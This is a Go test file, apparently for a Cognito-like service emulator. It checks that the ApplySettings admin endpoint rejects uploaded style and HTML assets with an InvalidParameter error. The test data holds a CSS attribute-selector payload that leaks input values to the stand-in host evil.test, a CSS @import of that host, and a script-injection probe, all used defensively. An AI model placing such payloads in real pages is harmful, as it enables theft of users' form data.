package cognito

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"
)

func TestAttackStyleSheetThatLoads(t *testing.T) {
	s := start(t)
	for kind, body := range map[string]string{
		"text/css; charset=utf-8": `input[value^=a]{background:url(//evil.test)}`,
		"TEXT/CSS":                `@import "//evil.test";`,
		"text/html":               `<script>alert(1)</script>`,
	} {
		sum := sha256.Sum256([]byte(body))
		in, err := json.Marshal(ApplySettingsRequest{Assets: []Asset{{Hash: hex.EncodeToString(sum[:]), ContentType: kind, Body: []byte(body)}}})
		if err != nil {
			t.Fatal(err)
		}
		if status, _, answer := s.says(AdminTarget+"ApplySettings", string(in)); status != 400 || !strings.Contains(answer, "InvalidParameter") {
			t.Errorf("%s: %d %s", kind, status, answer)
		}
	}
}
